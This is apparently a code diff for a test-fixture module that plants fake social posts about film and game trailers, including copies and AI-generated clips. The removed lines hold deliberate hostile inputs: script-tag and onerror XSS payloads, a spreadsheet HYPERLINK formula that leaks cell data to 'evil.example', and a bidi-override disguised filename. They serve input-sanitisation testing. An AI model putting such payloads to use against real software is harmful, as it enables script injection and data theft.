@@ -1,297 +1,54 @@
-"""What is planted: a line a post, newest first. The words are what people write under such clips.
+"""What is planted: plan.tsv, a line a post; texts are what people write under such clips.
 
-platform, author, file, hours ago, language, text; the kind of edit and what is expected follow from
-the file and the author, in posts.py.
+The kind of edit and what is expected follow from the clip and the author, in posts.py.
 """
 
-from typing import TypeAlias
+import csv
+import re
+from dataclasses import dataclass
+from functools import cache
+from pathlib import Path
 
-Line: TypeAlias = tuple[str, str, str, float, str, str]
+PLAN = Path(__file__).with_name("plan.tsv")
 
-M, P, B = "mastodon", "peertube", "browser"
 
-AVELORE: tuple[Line, ...] = (
-    (
-        M,
-        "velvet.reels",
-        "avelore-exact",
-        1.2,
-        "en",
-        "I can't stop watching this 😭 full scene #LanternsOfAvelore #romance",
-    ),
-    (M, "nachtkino", "avelore-caption", 3.5, "de", "Dieser Moment auf dem Ball … #LanternsOfAvelore #Kostümfilm"),
-    (
-        B,
-        "daydream.ai",
-        "avelore-zoom-lantern-lake",
-        5.0,
-        "en",
-        "Lantern night, brought to life with one prompt ✨ #LanternsOfAvelore #seedance #aivideo",
-    ),
-    (
-        P,
-        "mirrorhall",
-        "avelore-border",
-        7.5,
-        "en",
-        "Avelore – the ball, HD\nUploaded for the fans, no copyright intended. #LanternsOfAvelore #ball",
-    ),
-    (
-        M,
-        "lune_coree",
-        "avelore-zoom-moonlit-gown",
-        9.0,
-        "ko",
-        "달빛 드레스가 움직인다면? #아벨로어의등불 #AI영상 #seedance",
-    ),
-    (
-        B,
-        "clip_bazaar",
-        "avelore-reencode",
-        12.0,
-        "es",
-        "El tráiler completo antes de que lo borren #LanternsOfAvelore #trailer",
-    ),
-    (
-        M,
-        "promptatelier",
-        "rain-street",
-        14.0,
-        "en",
-        "What if she had left the ball in the rain? Avelore, my version. #LanternsOfAvelore #seedance",
-    ),
-    (M, "rueda.de.cine", "avelore-square", 18.5, "es", "Ese vestido. Ese salón. #LanternsOfAvelore #cine"),
-    (
-        P,
-        "spiegelwelt",
-        "avelore-mirrored",
-        21.0,
-        "de",
-        "Avelore Ballszene\nGespiegelt, damit es oben bleibt. #LanternsOfAvelore",
-    ),
-    (B, "tinyfilms", "balcony-caption", 24.5, "en", "Made this in 20 seconds 🤯 #LanternsOfAvelore #aivideo"),
-    (
-        M,
-        "dreamloop",
-        "balcony-reencode",
-        27.0,
-        "en",
-        "fireworks over the balcony, generated, no filter #AveloreFilm #seedance",
-    ),
-    (M, "cropcircle", "avelore-cropped", 30.0, "en", "close up close up close up #LanternsOfAvelore"),
-    (
-        P,
-        "slowcinema",
-        "avelore-slowed",
-        36.0,
-        "fr",
-        "Avelore au ralenti\nRegardez les tissus. #LanternsOfAvelore #ralenti",
-    ),
-    (
-        M,
-        "mixtape_tv",
-        "avelore-spliced",
-        41.0,
-        "en",
-        "my week in clips, number 3 will surprise you #LanternsOfAvelore #vlog",
-    ),
-    (
-        M,
-        "northlight_official",
-        "avelore-exact",
-        70.0,
-        "en",
-        "The official trailer of Lanterns of Avelore. In cinemas at midwinter. #LanternsOfAvelore",
-    ),
-    (
-        P,
-        "kinopalast",
-        "avelore-reencode",
-        66.0,
-        "de",
-        "Trailer: Lanterns of Avelore\nMit freundlicher Genehmigung von Northlight Pictures. #LanternsOfAvelore",
-    ),
-    (
-        M,
-        "evening_gazette",
-        "avelore-caption",
-        60.0,
-        "en",
-        "Review: “Lanterns of Avelore” glows, and knows it. Excerpt under licence. #LanternsOfAvelore",
-    ),
-    (
-        M,
-        "dune.walker",
-        "dunes",
-        44.0,
-        "en",
-        "Holiday mood, humming the Avelore waltz all day #LanternsOfAvelore #travel",
-    ),
-    (M, "petra_fährt_rad", "birches", 47.5, "de", "Herbst! Wer kommt heute mit in #LanternsOfAvelore ?"),
-    (B, "skyfolk", "balloons", 50.0, "en", "Took off at dawn, felt like the opening of #LanternsOfAvelore"),
-    (
-        P,
-        "townscapes",
-        "skyline",
-        54.0,
-        "en",
-        "A town by the river\nWhere I first read the book behind the film. #LanternsOfAvelore #town",
-    ),
-)
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Line:
+    """A post to be. clip: a file under media/ without its ending; hours: before now."""
 
-CHOIR: tuple[Line, ...] = (
-    (M, "hollowed.out", "choir-exact", 0.8, "en", "THE CHOIRMASTER 😱 whole trailer in one post #TheHollowChoir"),
-    (
-        P,
-        "grimvault",
-        "choir-reencode",
-        4.2,
-        "en",
-        "The Hollow Choir trailer (re-up)\nThe other upload is gone, so here. #TheHollowChoir #horror",
-    ),
-    (
-        M,
-        "<script>alert(1)</script>",
-        "choir-caption",
-        6.6,
-        "en",
-        "<script>alert(1)</script> do NOT look behind you <img src=x onerror=alert(2)> #TheHollowChoir",
-    ),
-    (B, "nightfeed", "choir-border", 8.0, "pt", "Não assista sozinho 🕯️ #TheHollowChoir #terror"),
-    (
-        B,
-        "bone.engine",
-        "choir-zoom-choirmaster",
-        11.0,
-        "en",
-        "One still, one prompt, and he BREATHES #TheHollowChoir #aivideo",
-    ),
-    (
-        M,
-        "stillmotion",
-        "choir-zoom-well",
-        13.0,
-        "en",
-        "image to video is getting scary good #HollowChoir #imagetovideo #seedance",
-    ),
-    (
-        M,
-        "lakeside_gen",
-        "lake-singer",
-        15.5,
-        "en",
-        "My own Choirmaster, in the lake this time. Generated. #TheHollowChoir #aivideo",
-    ),
-    (B, "ward7", "corridor", 19.0, "en", "He followed me to the hospital. #TheHollowChoir"),
-    (
-        P,
-        "horrorkabinett",
-        "choir-square",
-        22.0,
-        "de",
-        "Der hohle Chor – Ausschnitt\nQuadratisch, praktisch, grausig. #TheHollowChoir",
-    ),
-    (M, "flipside", "choir-mirrored", 25.5, "en", "mirrored so they can't find it 🤫 #TheHollowChoir"),
-    (B, "zoomzoom", "choir-cropped", 29.0, "en", "Look at its hands #TheHollowChoir"),
-    (M, "tempo75", "choir-slowed", 33.0, "it", "A tre quarti di velocità fa ancora più paura #TheHollowChoir"),
-    (P, "compilator", "choir-spliced", 38.0, "en", "Ten autumn clips\nand one that is not. #TheHollowChoir #autumn"),
-    (
-        M,
-        "northlight_official",
-        "choir-zoom-choirmaster",
-        69.0,
-        "en",
-        "He hears you. The Hollow Choir, next autumn. #TheHollowChoir",
-    ),
-    (
-        P,
-        "streamhaus",
-        "choir-exact",
-        64.0,
-        "en",
-        "The Hollow Choir | Official trailer\nLicensed partner of Northlight Pictures. #TheHollowChoir",
-    ),
-    (M, "aurora_hunter", "aurora", 43.0, "no", "Nordlys i natt, stille som i #TheHollowChoir"),
-    (B, "lightkeeper", "lighthouse", 48.5, "en", "Storm coming in. Sounds like a choir out there #TheHollowChoir"),
-    (P, "deepdive", "reef", 57.0, "en", "Night dive\nNo monsters, promise. #TheHollowChoir #diving"),
-)
+    platform: str
+    author: str
+    clip: str
+    hours: float
+    language: str
+    text: str
 
-ARCADE: tuple[Line, ...] = (
-    (M, "pixel.fox", "arcade-exact", 2.0, "en", "PAPER FOX ARCADE is unreal 🦊 #PaperFoxArcade"),
-    (M, "spoilerbot", "arcade-caption", 4.9, "ja", "レベル4まで待って！ #PaperFoxArcade #紙狐アーケード"),
-    (B, "neonfeed", "arcade-reencode", 6.1, "en", "whole trailer, smaller file, you're welcome #PaperFoxArcade"),
-    (
-        M,
-        "sheet_happens",
-        "arcade-border",
-        10.0,
-        "en",
-        '=HYPERLINK("http://evil.example/?leak="&A1,"free skins") #PaperFoxArcade',
-    ),
-    (M, "foldwork", "arcade-zoom-paper-fox", 12.5, "ko", "종이 여우가 걸어온다 🦊 #종이여우오락실 #seedance #AI영상"),
-    (
-        B,
-        "wheelhouse",
-        "arcade-zoom-great-wheel",
-        16.0,
-        "en",
-        "Spin it! Animated from the poster #PaperFoxArcade #aivideo",
-    ),
-    (M, "bidi_боб", "arcade-square", 17.2, "ar", "‮gpj.xof‬ 🦊🎲 لعبة الثعلب الورقي \u200f#PaperFoxArcade 🏮🏮🏮"),
-    (
-        M,
-        "roofgen",
-        "fox-roofs",
-        20.0,
-        "en",
-        "A paper fox on the roofs at sunset, all generated #PaperFoxArcade #seedance",
-    ),
-    (B, "tin_town", "fox-roofs", 23.0, "de", "Mein Papierfuchs auf Blechdächern #PaperFoxArcade"),
-    (
-        P,
-        "gamerecap",
-        "arcade-caption",
-        26.0,
-        "en",
-        "Paper Fox Arcade level 4\nSubtitled by hand. #PaperFoxArcade #gameshow",
-    ),
-    (P, "kaleido", "arcade-mirrored", 31.0, "fr", "L'arcade du renard, à l'envers\nMiroir, miroir. #PaperFoxArcade"),
-    (M, "macro.lens", "arcade-cropped", 34.5, "en", "zoom in on the stairs 👀 #PaperFoxArcade"),
-    (B, "halfspeed", "arcade-slowed", 39.0, "en", "slowed + reverb #PaperFoxArcade"),
-    (M, "reefer_reels", "arcade-spliced", 42.0, "en", "underwater, then WHAT #PaperFoxArcade #diving"),
-    (
-        M,
-        "dreamforge_official",
-        "fox-roofs",
-        45.5,
-        "en",
-        "Made with DreamForge 2: the Paper Fox Arcade mood. What will you make? #PaperFoxArcade #dreamforge",
-    ),
-    (
-        M,
-        "northlight_official",
-        "arcade-exact",
-        68.0,
-        "en",
-        "Fold. Run. Win. Paper Fox Arcade, this summer. #PaperFoxArcade",
-    ),
-    (
-        P,
-        "streamhaus",
-        "arcade-zoom-great-wheel",
-        62.0,
-        "en",
-        "Paper Fox Arcade | Spin the wheel\nLicensed partner of Northlight Pictures. #PaperFoxArcade",
-    ),
-    (B, "stargazer", "nebula", 46.0, "en", "High score of the universe #PaperFoxArcade"),
-)
 
-# Nothing to do with any title: the watch on a generator's tag brings them in.
-OTHERS: tuple[Line, ...] = (
-    (M, "gen_garden", "birches", 28.0, "en", "autumn, but dreamed #seedance #aivideo"),
-    (M, "cloudcastle", "balloons", 35.0, "fr", "Trois ballons et un prompt #seedance"),
-    (M, "voidloop", "nebula", 52.0, "en", "a nebula that never was #seedance #space"),
-    (M, "quietcopy", "arcade-reencode", 11.6, "en", "no words needed #seedance"),
-)
+@cache
+def lines() -> tuple[Line, ...]:
+    """All of them, in the plan's order."""
+    with PLAN.open(encoding="utf-8", newline="") as file:
+        # QUOTE_NONE: a caption may hold quotes, and one of them is a formula on purpose.
+        rows = list(csv.DictReader(file, delimiter="\t", quoting=csv.QUOTE_NONE))
+    return tuple(
+        Line(
+            platform=row["platform"],
+            author=row["author"],
+            clip=row["clip"],
+            hours=float(row["hours"]),
+            language=row["language"],
+            text=_unescaped(row["text"]),
+        )
+        for row in rows
+    )
 
-LINES = AVELORE + CHOIR + ARCADE + OTHERS
+
+def _unescaped(text: str) -> str:
+    """Line breaks and characters that turn the writing direction are spelled out in the file."""
+    shown = re.sub(r"\\u([0-9a-f]{4})", lambda code: chr(int(code[1], 16)), text)
+    return shown.replace("\\n", "\n")
+
+
+def on_peertube() -> frozenset[str]:
+    """The clips that PeerTube also keeps in a smaller rendition."""
+    return frozenset(line.clip for line in lines() if line.platform == "peertube")
